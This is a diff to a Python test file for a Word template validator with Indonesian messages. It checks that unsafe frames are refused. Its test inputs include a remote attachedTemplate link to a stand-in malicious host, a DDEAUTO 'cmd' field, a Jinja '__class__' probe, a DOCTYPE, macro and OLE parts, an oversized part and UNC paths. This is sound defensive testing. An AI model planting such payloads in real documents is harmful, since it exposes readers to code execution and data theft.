@@ -1,6 +1,8 @@
 """Frames and logos: what cannot be used is refused, with what to do about it."""
 
+import re
 import struct
+import time
 import zipfile
 import zlib
 from collections.abc import Callable
@@ -9,7 +11,8 @@ from pathlib import Path
 import pytest
 from _docx_naskah import ROOT, docx_of, many, parts
 
-from kerjasama_docs.docx import frame, images
+from kerjasama_docs.docx import frame, images, package, reading
+from kerjasama_docs.docx.names import NAMES
 from kerjasama_docs.errors import UsageError
 from kerjasama_docs.findings import DocumentFindingsError, Level, Where
 from kerjasama_docs.model.template import Profil
@@ -44,7 +47,43 @@ def replacing(old: str, new: str) -> Callable[[dict[str, bytes]], None]:
 
 def swelling(content: dict[str, bytes]) -> None:
     """A part that is far larger unpacked than packed."""
-    content["word/media/besar.png"] = bytes(frame.MAX_UNPACKED + 1)
+    content["word/media/besar.png"] = bytes(reading.MAX_UNPACKED + 1)
+
+
+def typed(part: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
+    """A change of the bytes of a part."""
+
+    def change(content: dict[str, bytes]) -> None:
+        assert old in content[part]
+        content[part] = content[part].replace(old, new, 1)
+
+    return change
+
+
+def having(part: str) -> Callable[[dict[str, bytes]], None]:
+    """One more part."""
+
+    def change(content: dict[str, bytes]) -> None:
+        content[part] = b"x"
+
+    return change
+
+
+def sectionless(content: dict[str, bytes]) -> None:
+    """A document without the section at its end."""
+    text = content["word/document.xml"].decode()
+    content["word/document.xml"] = re.sub(r"<w:sectPr.*</w:sectPr>", "", text).encode()
+
+
+SPLIT = (
+    "<w:p><w:r><w:t>{</w:t></w:r><w:del><w:r><w:delText>% for x in nama %}{% endfor %</w:delText></w:r></w:del>"
+    "<w:r><w:t>}</w:t></w:r></w:p>"
+).replace("%}{% endfor %", "%</w:delText></w:r></w:del><w:r><w:t>}{</w:t></w:r><w:del><w:r><w:delText>% endfor %")
+"""A loop that docxtpl joins of texts no reader sees together."""
+ATTACHED = (
+    b'<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://jahat.example/a.dotm" '
+    b'TargetMode="External"/></Relationships>'
+)
 
 
 def headless(content: dict[str, bytes]) -> None:
@@ -59,9 +98,25 @@ def test_the_bundled_frame_is_used() -> None:
 @pytest.mark.parametrize(
     ("change", "says"),
     [
-        (replacing("{{p isi }}", ""), r"tidak punya jangkar \{\{p isi \}\}"),
-        (replacing("{{p judul }}", "{{ judul"), "Jinja|jangkar"),
-        (replacing("{{p kepala }}", "{{ kepala.x.y( }}"), "memuat Jinja yang tidak terbaca"),
+        (replacing("{{p isi }}", ""), r"Jangkar \{\{p isi \}\} tidak ada"),
+        (replacing("{{p judul }}", "{{ judul"), "dibuka, tetapi tidak ditutup"),
+        (replacing("{{p kepala }}", "{{ kepala.x.y( }}"), "tidak terbaca: tertulis"),
+        (replacing("{{p kepala }}", "{% for x in nama %}{% endfor %}"), "Perintah “for” tidak dipakai"),
+        (replacing("{{p kepala }}", "{% set nama = 1 %}"), "Perintah “set” tidak dipakai"),
+        (replacing("{{p kepala }}", "{{ jenis.__class__ }}"), "bagian dari suatu nilai, yang tidak diizinkan"),
+        (replacing("{{p kepala }}", "{{ entah }}"), "Nama “entah” tidak dikenal"),
+        (replacing("{{p isi }}", "{{p isi }} teks dinas"), "berbagi paragraf dengan teks “teks dinas”, yang akan"),
+        (replacing("<w:p><w:r><w:t>{{p kepala }}", SPLIT + "<w:p><w:r><w:t>{{p kepala }}"), r"tidak diizinkan \(For"),
+        (replacing("<w:document", "<!DOCTYPE x><w:document"), "memuat DOCTYPE"),
+        (replacing("<w:body>", "<w:body><w:p><w:r><w:instrText> DDEAUTO cmd </w:instrText></w:r></w:p>"), "DDEAUTO"),
+        (replacing("<w:sectPr>", "<w:x>"), "XML"),
+        (typed("word/styles.xml", b"Judul Naskah", b"Judul {{ nama }}"), "word/styles.xml, yang tidak diisi"),
+        (typed("word/styles.xml", b"Judul Naskah", b"Judul \xe9"), "styles.xml (bukan UTF-8|bukan XML)"),
+        (typed("word/styles.xml", b'encoding="UTF-8"', b'encoding="ISO-8859-1"'), "styles.xml bukan UTF-8"),
+        (typed("word/_rels/document.xml.rels", b"</Relationships>", ATTACHED), "attachedTemplate"),
+        (having("word/vbaProject.bin"), "makro"),
+        (having("word/embeddings/oleObject1.bin"), "OLE"),
+        (sectionless, "akhir bagian"),
         (swelling, "terlalu besar"),
         (headless, "bukan berkas Word"),
     ],
@@ -74,11 +129,85 @@ def test_a_frame_that_cannot_be_used_is_refused(
     assert caught.value.remedy
 
 
-def test_a_frame_with_an_unknown_name_is_refused_when_it_is_filled(tmp_path: Path) -> None:
-    made = frame.load_frame(changed(tmp_path, replacing("{{p kepala }}", "{{ entah }}")), PROFIL)
-    with pytest.raises(UsageError, match="entah") as caught:
-        made.render(dict.fromkeys([*frame.ANCHORS, "paraf"], ""))
-    assert "templat periksa" in caught.value.remedy
+@pytest.mark.parametrize("margin", ["", '<w:pgMar w:top="1"/>'])
+@pytest.mark.parametrize("size", ["", '<w:pgSz w:w="1"/>'])
+def test_a_frame_gets_its_page_whatever_its_section_says(size: str, margin: str, tmp_path: Path) -> None:
+    rest = '<w:cols w:space="720"/><w:titlePg/>'
+
+    def change(content: dict[str, bytes]) -> None:
+        text = content["word/document.xml"].decode()
+        content["word/document.xml"] = re.sub(r"<w:pgSz.*<w:cols[^>]*/>", size + margin + rest, text).encode()
+
+    made = frame.load_frame(changed(tmp_path, change), PROFIL)
+    document = made.render(dict.fromkeys(NAMES, ""))["word/document.xml"].decode()
+    assert made.page.section() + rest in document
+    assert document.count("<w:pgSz") == document.count("<w:pgMar") == 1
+    assert made.section.with_page(made.page).endswith(made.page.section() + rest)
+    assert "titlePg" not in made.section.following().after
+
+
+def test_a_section_of_a_frame_that_lies_on_its_side_stays_so(tmp_path: Path) -> None:
+    section = '<w:p><w:pPr><w:sectPr><w:pgSz w:w="9" w:h="5" w:orient="landscape"/></w:sectPr></w:pPr></w:p>'
+    made = frame.load_frame(changed(tmp_path, replacing("<w:body>", "<w:body>" + section)), PROFIL)
+    document = made.render(dict.fromkeys(NAMES, ""))["word/document.xml"].decode()
+    assert made.page.turned().section(landscape=True) in document
+    assert made.page.section() in document
+
+
+def resaved(content: dict[str, bytes]) -> None:
+    """What Word leaves of the parts that we add to: no types and relationships without a user, closed roots."""
+    types = content["[Content_Types].xml"].decode()
+    types = re.sub(r'<Default Extension="(png|jpeg)"[^>]*/>|<Override PartName="/docProps/custom[^>]*/>', "", types)
+    content["[Content_Types].xml"] = types.replace(
+        "<Override", '<Default Extension="PNG" ContentType="image/png"/><Override', 1
+    ).encode()
+    content["_rels/.rels"] = re.sub(rb"<Relationship [^>]*custom-properties[^>]*/>", b"", content["_rels/.rels"])
+    content["word/media/logo1.png"] = b"kop"
+    del content["docProps/custom.xml"]
+
+
+def test_logos_and_properties_in_a_frame_that_word_saved(tmp_path: Path) -> None:
+    (tmp_path / "templat/kerangka").mkdir(parents=True)
+    changed(tmp_path / "templat/kerangka", resaved)
+    for name, kind in (("a.png", "PNG"), ("b.jpg", "JPEG")):
+        (tmp_path / name).write_bytes(picture(kind))
+    source = tmp_path / "naskah.yaml"
+    source.write_text(
+        "jenis: nota-kesepahaman\nprofil: umum\npihak: [{nama: A, logo: a.png}, {nama: B, logo: b.jpg}]\n", "utf-8"
+    )
+    content = parts(docx_of(load(source, templates=tmp_path / "templat")))
+    assert content["word/media/logo1.png"] == b"kop"
+    types = content["[Content_Types].xml"].decode()
+    assert len(re.findall(r'Extension="(?:png|PNG)"', types)) == 1
+    assert 'Extension="jpeg" ContentType="image/jpeg"' in types
+    assert types.count('PartName="/docProps/custom.xml"') == 1
+    assert 'Target="docProps/custom.xml"' in content["_rels/.rels"].decode()
+    related = dict(
+        re.findall(r'Id="(\w+)"[^>]*Target="(media/[^"]+)"', content["word/_rels/document.xml.rels"].decode())
+    )
+    asked = re.findall(r'r:embed="(\w+)"', content["word/document.xml"].decode())
+    assert len(asked) == 2
+    assert all(f"word/{related[name]}" in content for name in asked)
+
+
+@pytest.mark.parametrize(
+    "part", [None, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" />']
+)
+def test_a_relationship_is_added_to_a_closed_root_under_an_id_of_its_own(part: bytes | None) -> None:
+    once, first = package.related(part, "http://x/image", ["media/a.png"])
+    twice, second = package.related(once, "http://x/image", ["media/b.png"])
+    assert first != second
+    assert [target in twice for target in (b"media/a.png", b"media/b.png")] == [True, True]
+    assert package.sole(twice, "http://x/image", "media/c.png").count(b"<Relationship ") == 1
+
+
+@pytest.mark.parametrize("part", [b"", b"<Types/>", b"<x/>", b"bukan XML"])
+def test_nothing_is_added_to_what_is_no_list(part: bytes) -> None:
+    with pytest.raises(UsageError):
+        package.declared(part, defaults={}, overrides={"a.xml": "x"})
+    if part:
+        with pytest.raises(UsageError):
+            package.related(part, "http://x/image", ["a.png"])
 
 
 @pytest.mark.parametrize("content", [b"", b"bukan zip", FRAME.read_bytes()[:2000]])
@@ -155,6 +284,32 @@ def test_an_absolute_path_is_refused_even_inside_the_folder(tmp_path: Path) -> N
     (tmp_path / "logo.png").write_bytes(picture("PNG"))
     with pytest.raises(DocumentFindingsError, match="di luar folder masukan"):
         images.load_logos((Logo(str(tmp_path / "logo.png"), "logo", str(tmp_path)),), (Where(),))
+
+
+@pytest.mark.parametrize("name", [r"\\host\share\x.png", "//host/share/x.png", r"C:\x.png", "C:x.png", r"\x.png"])
+def test_a_path_of_windows_is_refused_before_anything_is_touched(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    def touched(*_: object) -> None:
+        raise AssertionError(name)
+
+    monkeypatch.setattr(Path, "resolve", touched)
+    monkeypatch.setattr(Path, "stat", touched)
+    with pytest.raises(DocumentFindingsError, match="di luar folder masukan"):
+        images.load_logos((Logo(name, "logo", "folder"),), (Where(),))
+
+
+def test_many_logos_share_the_line() -> None:
+    made = images.drawing(images.Picture(b"", "png", 300, 100), "r1", 1, "logo", room=images.room_of(8, 8787))
+    (width, height) = map(int, re.findall(r'<wp:extent cx="(\d+)" cy="(\d+)"', made)[0])
+    assert width == (8787 // 8 - 108) * 635
+    assert height == width // 3
+
+
+def test_a_large_jpeg_is_read_once() -> None:
+    segments = (b"\xff\xe1\x04\x02" + bytes(1024)) * 4000
+    content = picture("JPEG")[:2] + segments + picture("JPEG")[2:]
+    begin = time.perf_counter()
+    assert images.read_picture(content).width == 60
+    assert time.perf_counter() - begin < 0.5
 
 
 def test_all_wrong_logos_of_a_naskah_are_said_at_once_with_their_places() -> None:
